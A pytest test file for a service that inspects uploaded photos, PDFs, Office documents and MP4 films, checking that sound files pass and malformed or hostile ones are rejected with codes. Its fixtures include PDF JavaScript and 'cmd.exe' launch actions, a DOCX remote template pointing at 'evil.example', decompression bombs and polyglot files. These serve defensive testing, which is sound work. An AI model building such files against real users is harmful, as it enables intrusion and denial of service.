"""What a look inside a file finds, on real files: good ones pass, each bad one has its code."""

import io
import re
import struct
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pikepdf
import pytest
from PIL import Image

from services.evidence.checks.examine import inspect
from services.evidence.checks.protocol import Limits, Reject
from services.evidence.piece.media import DOCX, JPEG, MP4, PDF, PNG, XLSX
from tests.unit.evidence import files

MIB = 1024 * 1024
LIMITS = Limits(
    memory=1024 * MIB,
    seconds=60,
    fetch_seconds=20,
    pixels=64_000_000,
    unpacked=64 * MIB,
    members=100,
    pdf_objects=1000,
)


def look(data, media_type):
    return inspect(io.BytesIO(data), media_type, LIMITS)


def code_of(data, media_type):
    with pytest.raises(Reject) as refused:
        look(data, media_type)
    return refused.value.code


class TestPictures:
    def test_a_photo_tells_its_size_its_time_and_its_place(self):
        facts = look(files.jpeg(640, 480), JPEG).facts
        assert (facts.width, facts.height, facts.camera) == (640, 480, "Tongxin T0")
        assert facts.taken_at is not None
        assert facts.taken_at.astimezone(UTC) == datetime(2026, 5, 4, 1, 30, 15, tzinfo=UTC)
        assert facts.position is not None
        assert abs(facts.position.latitude - files.LANZHOU[0]) < 1e-6
        assert abs(facts.position.longitude - files.LANZHOU[1]) < 1e-6

    def test_a_photo_without_a_place_has_none(self):
        assert look(files.jpeg(place=None), JPEG).facts.position is None

    def test_every_tool_that_looked_is_named_with_its_version(self):
        tools = look(files.jpeg(), JPEG).tools
        assert set(tools) == {"libmagic", "pillow"}
        assert all(re.match(r"\d", version) for version in tools.values())

    def test_nobody_pretends_that_a_scanner_looked(self):
        assert look(files.jpeg(), JPEG).facts.malware.startswith("not-scanned")

    @pytest.mark.parametrize(
        ("data", "media_type"), [(files.jpeg(1600, 900), JPEG), (files.png(200, 600), PNG)]
    )
    def test_the_thumbnail_is_small_and_without_the_originals_place(self, data, media_type):
        thumbnail = look(data, media_type).thumbnail
        assert thumbnail is not None
        small = Image.open(io.BytesIO(thumbnail))
        assert max(small.size) <= 320
        assert not small.getexif()

    def test_broken_metadata_is_no_fault_of_the_picture(self):
        out = io.BytesIO()
        Image.new("RGB", (40, 30)).save(out, "JPEG", exif=b"Exif\0\0II*\0\x08\0\0\0\xff\xff\x01")
        facts = look(out.getvalue(), JPEG).facts
        assert (facts.width, facts.taken_at, facts.position) == (40, None, None)

    def test_the_thumbnail_of_a_phone_held_upright_is_upright(self):
        exif = Image.Exif()
        exif[0x0112] = 6
        out = io.BytesIO()
        Image.new("RGB", (400, 200)).save(out, "JPEG", exif=exif)
        thumbnail = look(out.getvalue(), JPEG).thumbnail
        assert thumbnail is not None
        assert Image.open(io.BytesIO(thumbnail)).size == (160, 320)

    @pytest.mark.parametrize("mode", ["L", "RGB", "RGBA"])
    def test_pictures_of_every_mode_pass(self, mode):
        out = io.BytesIO()
        Image.new(mode, (40, 30)).save(out, "PNG")
        assert look(out.getvalue(), PNG).facts.width == 40

    def test_a_truncated_photo_is_broken(self):
        data = files.jpeg(1600, 1200)
        assert code_of(data[: len(data) // 2], JPEG) == "broken-image"

    def test_a_photo_cut_before_its_end_marker_is_broken(self):
        assert code_of(files.jpeg()[:-2], JPEG) == "broken-image"

    def test_a_png_with_a_flipped_bit_is_broken(self):
        data = bytearray(files.png(400, 400))
        data[len(data) // 2] ^= 0xFF
        assert code_of(bytes(data), PNG) == "broken-image"

    def test_a_picture_of_900_megapixels_in_a_small_file_is_a_bomb(self):
        data = files.png_bomb()
        assert len(data) < MIB
        assert code_of(data, PNG) == "decompression-bomb"

    def test_a_png_called_a_photo_is_of_another_type(self):
        assert code_of(files.png(), JPEG) == "type-mismatch"

    def test_a_program_called_a_photo_is_not_allowed(self):
        assert code_of(Path("/bin/true").read_bytes(), JPEG) == "type-not-allowed"
        assert code_of(b"<html><body>hello</body></html>", JPEG) == "type-not-allowed"

    def test_a_photo_that_is_a_zip_too_is_refused(self):
        data = files.jpeg() + files.package({"evil.txt": b"x"})
        assert zipfile.is_zipfile(io.BytesIO(data))
        assert code_of(data, JPEG) == "type-mismatch"

    @pytest.mark.parametrize("tail", [b"<HTML><script>1</script>", b"%PDF-1.4 x", b"Rar!\x1a\x07"])
    def test_a_photo_with_another_kind_of_file_behind_it_is_refused(self, tail):
        assert code_of(files.jpeg() + tail, JPEG) == "type-mismatch"

    def test_a_photo_with_a_page_in_its_comment_is_refused(self):
        assert code_of(files.jpeg(comment=b"<html><script>"), JPEG) == "type-mismatch"

    def test_a_phones_second_picture_behind_the_first_passes(self):
        assert look(files.jpeg() + files.jpeg(80, 60), JPEG).facts.width == 640

    def test_a_png_with_an_archive_behind_it_is_refused(self):
        assert code_of(files.png() + files.package({"a": b"b"}), PNG) == "type-mismatch"


class TestDocuments:
    def test_a_plain_pdf_tells_its_pages(self):
        assert look(files.pdf(), PDF).facts.pages == 1

    @pytest.mark.parametrize("user", ["", "secret"])
    def test_a_locked_pdf_is_refused_also_where_it_opens_without_a_password(self, user):
        assert code_of(files.locked_pdf(user), PDF) == "encrypted"

    @pytest.mark.parametrize(
        "action",
        [
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"),
            pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
            pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://example.org"),
        ],
    )
    def test_a_pdf_that_would_do_something_is_refused(self, action):
        assert code_of(files.pdf_with_action(action), PDF) == "macro"

    def test_an_action_deep_inside_is_found(self):
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1")
        nested = pikepdf.Array([pikepdf.Array([pikepdf.Dictionary(A=action)])])
        assert code_of(files.pdf(Deep=nested), PDF) == "macro"

    def test_an_action_in_a_packed_object_is_found(self):
        out = io.BytesIO()
        document = pikepdf.new()
        document.add_blank_page()
        document.Root.Names = document.make_indirect(
            pikepdf.Dictionary(JavaScript=document.make_indirect(pikepdf.Dictionary(Names=[])))
        )
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        assert b"/JavaScript" not in out.getvalue()
        assert code_of(out.getvalue(), PDF) == "macro"

    def test_a_pdf_that_nothing_can_open_is_unreadable(self):
        assert code_of(b"%PDF-1.7\n" + b"nonsense " * 100, PDF) == "unreadable"

    def test_a_pdf_that_is_a_zip_too_is_refused(self):
        assert code_of(files.pdf() + files.package({"a": b"b"}), PDF) == "type-mismatch"

    def test_a_pdf_with_too_many_objects_is_a_bomb(self):
        many = pikepdf.new()
        many.add_blank_page()
        empty = (many.make_indirect(pikepdf.Dictionary()) for _ in range(1100))
        many.Root.Many = pikepdf.Array(list(empty))
        out = io.BytesIO()
        many.save(out)
        assert code_of(out.getvalue(), PDF) == "decompression-bomb"


class TestOfficeDocuments:
    def test_a_workbook_and_a_document_pass_as_what_they_are(self):
        assert look(files.xlsx(), XLSX).facts.members
        assert look(files.docx(), DOCX).facts.members == 3

    def test_a_document_is_no_workbook(self):
        assert code_of(files.docx(), XLSX) == "type-mismatch"
        assert code_of(files.xlsx(), DOCX) == "type-mismatch"

    def test_an_archive_of_anything_is_no_document(self):
        assert code_of(files.package({"a.txt": b"a"}), DOCX) == "type-mismatch"

    def test_a_document_with_macros_called_docx_is_refused(self):
        docm = files.docx({"word/vbaProject.bin": b"\xd0\xcf"}, main=files.DOCM_TYPE)
        assert code_of(docm, DOCX) == "macro"

    @pytest.mark.parametrize(
        "name", ["word/vbaProject.dat", "word/media/run.EXE", "word/README", "customXml/item.rtf"]
    )
    def test_a_member_of_no_known_kind_is_refused(self, name):
        assert code_of(files.docx({name: b"x"}), DOCX) in ("macro", "embedded")

    def test_macros_hidden_under_another_name_are_found_by_their_content_type(self):
        assert code_of(files.docx(main=files.DOCM_TYPE), DOCX) == "macro"

    def test_a_template_fetched_from_afar_is_refused(self):
        rels = (
            b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        )
        assert code_of(files.docx({"word/_rels/settings.xml.rels": rels}), DOCX) == "embedded"

    def test_a_link_to_a_web_page_passes(self):
        rels = (
            b'<Relationships><Relationship Id="r" Type="http://x/relationships/hyperlink" '
            b'Target="http://www.gov.cn" TargetMode="External"/></Relationships>'
        )
        assert look(files.docx({"word/_rels/document.xml.rels": rels}), DOCX)

    def test_a_member_that_grows_a_thousandfold_is_a_bomb(self):
        assert code_of(files.docx({"word/media/a.xml": b" " * (20 * MIB)}), DOCX) == (
            "decompression-bomb"
        )

    def test_members_that_are_too_large_together_are_a_bomb(self):
        members = {f"word/media/{n}.xml": b"<a/>" + b" " * (7 * MIB) for n in range(10)}
        assert code_of(files.docx(members), DOCX) == "decompression-bomb"

    def test_too_many_members_are_a_bomb(self):
        assert code_of(files.docx({f"m/{n}": b"" for n in range(100)}), DOCX) == (
            "decompression-bomb"
        )

    def test_something_in_front_of_the_archive_is_refused(self):
        assert code_of(files.jpeg() + files.docx(), DOCX) == "type-mismatch"

    def test_something_behind_the_archive_is_refused(self):
        assert code_of(files.docx() + b"MZ....", DOCX) == "unreadable"

    def test_something_between_two_members_is_refused(self):
        whole = files.docx()
        at = whole.index(b"PK\x01\x02")
        (start,) = struct.unpack_from("<I", whole, len(whole) - 6)
        end = bytearray(whole[at:])
        struct.pack_into("<I", end, len(end) - 6, start + 4)
        assert code_of(whole[:at] + b"MZ.." + bytes(end), DOCX) == "type-mismatch"

    def test_a_member_with_a_wrong_checksum_is_unreadable(self):
        data = bytearray(files.docx(compress=False))
        data[data.index(b"<w:p/>") + 1] ^= 1
        assert code_of(bytes(data), DOCX) == "unreadable"

    def test_four_bytes_of_an_archive_are_unreadable(self):
        assert code_of(b"PK\x03\x04", DOCX) in ("unreadable", "type-not-allowed")

    def test_a_half_archive_is_unreadable(self):
        data = files.docx()
        assert code_of(data[: len(data) // 2], DOCX) == "unreadable"

    def test_a_workbook_under_a_password_is_refused_as_encrypted(self):
        header = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16)
        header += bytes.fromhex("3e000300feff0900") + bytes(480)
        data = header.ljust(1024, b"\0") + "EncryptedPackage".encode("utf-16-le") + bytes(1024)
        assert code_of(data, XLSX) == "encrypted"


class TestFilms:
    def test_a_film_passes_by_its_boxes(self):
        assert look(files.mp4(), MP4).facts.members == 3

    def test_bytes_behind_the_last_box_are_refused(self):
        assert code_of(files.mp4(tail=b"PK"), MP4) == "unreadable"

    def test_a_cut_film_is_unreadable(self):
        assert code_of(files.mp4()[:-100], MP4) == "unreadable"

    def test_an_archive_in_a_box_is_refused(self):
        zipped = files.package({"a": b"b"})
        assert code_of(files.mp4(tail=files._box(b"free", zipped)), MP4) == "type-mismatch"

    def test_another_brand_is_refused(self):
        data = files.mp4().replace(b"ftypisom", b"ftypqt  ")
        assert code_of(data, MP4) in ("type-mismatch", "type-not-allowed")
